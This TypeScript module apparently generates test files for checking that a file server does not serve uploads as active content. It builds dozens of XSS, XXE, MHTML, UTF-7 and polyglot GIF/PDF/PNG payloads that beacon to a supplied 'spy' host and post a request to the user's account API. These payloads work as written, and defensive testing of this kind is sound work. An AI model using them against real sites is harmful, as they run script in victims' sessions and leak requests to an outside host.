/** Files that would run a script or send a request if a browser used them with their real type. */
import { gzipSync } from 'node:zlib'

export interface ActiveFile {
  name: string
  bytes: string | Buffer
}

/** The script of these files: it leaves traces in the page, at `spy`, and in the account of the user who opens it. */
const scriptFor = (spy: string): string =>
  `window.hit=1;try{top.hit=1}catch(e){};new Image().src='${spy}/ran';fetch('/api/files/folders',` +
  `{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({name:'hit'})})`

/** Returns every file, and under `controls` those that must do harm when a server sends them with their real type. */
export function drawActiveFiles(spy: string): { files: ActiveFile[]; controls: Record<string, ActiveFile> } {
  const script = scriptFor(spy)
  const head = `<link rel=stylesheet href="${spy}/css"><meta http-equiv=refresh content="0;url=${spy}/refresh">`
  const tags = `<script>${script}</script><img src=x onerror="${script}"><img src="${spy}/img"><iframe srcdoc="<script>${script}</script>"></iframe><iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><form action="${spy}/form" id=f></form><script>f.submit()</script>`
  const html = `<!doctype html><html><head>${head}</head><body onload="${script}">${tags}</body></html>`
  const svgStart =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"'
  const svg = `${svgStart} onload="${script}"><script>${script}</script><style>@import url("${spy}/import"); rect { fill: url("${spy}/fill#a") }</style><rect width="9" height="9"/><image href="${spy}/image" width="9" height="9"/><use href="${spy}/use#a"/><animate attributeName="x" dur="1s" onbegin="${script}"/><foreignObject width="80" height="80"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${spy}/foreign"/><img src="x" onerror="${script}"/><script>${script}</script></body></foreignObject></svg>`
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body onload="${script}"><script>${script}</script><img src="${spy}/xhtml"/></body></html>`
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${script}</script></body></html></xsl:template></xsl:stylesheet>`
  const styled = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${spy}/xslt"?><!DOCTYPE a [<!ENTITY b SYSTEM "${spy}/entity"><!ENTITY % c SYSTEM "${spy}/dtd"> %c;]><a>&b;</a>`
  const inner = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><a>${sheet.replace('<xsl:stylesheet', '<xsl:stylesheet id="s"')}</a>`
  const mhtml = `From: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${html}\r\n--b--\r\n`
  const markdown = `# x\n\n${tags}\n\n[a](javascript:${encodeURIComponent(script)}) ![b](${spy}/markdown)\n\n<details open ontoggle="${script}">`
  const css = `@import url("${spy}/css-import"); html { background: url("${spy}/css") !important }`
  const gif = `GIF89a/*${'\0'.repeat(20)}*/=0;${script}//${html}`
  const wide = Buffer.from(`\ufeff${html}`, 'utf16le')
  const asHtml =
    'page.html page.htm page.shtml page.xht .html page.txt page.md page.json page.css page.csv page.pdf page.jpg ' +
    'page.png page.mp4 page.mp3 page.wasm page.vtt page page.html.txt'
  const files: ActiveFile[] = [
    ...asHtml.split(' ').map(name => ({ name, bytes: html })),
    ...['draw.svg', 'draw.SVG', 'draw.xml', 'draw.png'].map(name => ({ name, bytes: svg })),
    { name: 'draw.svgz', bytes: gzipSync(svg) },
    ...['whole.xhtml', 'whole.xml', 'whole.svg'].map(name => ({ name, bytes: xhtml })),
    { name: 'sheet.xsl', bytes: sheet },
    ...['styled.xml', 'styled.svg'].map(name => ({ name, bytes: styled })),
    ...['inner.xml', 'inner.svg'].map(name => ({ name, bytes: inner })),
    ...['mail.mht', 'mail.mhtml'].map(name => ({ name, bytes: mhtml })),
    { name: 'note.md', bytes: markdown },
    ...['run.js', 'run.mjs', 'run.txt', 'run.svg', 'run.json'].map(name => ({
      name,
      bytes: script,
    })),
    ...['style.css', 'style.txt'].map(name => ({ name, bytes: css })),
    ...['both.gif', 'both.js', 'both.html'].map(name => ({ name, bytes: gif })),
    ...['wide.txt', 'wide.svg'].map(name => ({ name, bytes: wide })),
    { name: 'seven.txt', bytes: `+ADw-script+AD4-${script}+ADw-/script+AD4-` },
    { name: 'after.pdf', bytes: `%PDF-1.7\n${html}` },
    { name: 'after.png', bytes: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(html)]) },
  ]
  const controls = {
    'text/html': { name: 'page.html', bytes: html },
    'image/svg+xml': { name: 'draw.svg', bytes: svg },
    'application/xhtml+xml': { name: 'whole.xhtml', bytes: xhtml },
    'text/xml': { name: 'styled.xml', bytes: styled },
  }
  return { files, controls }
}
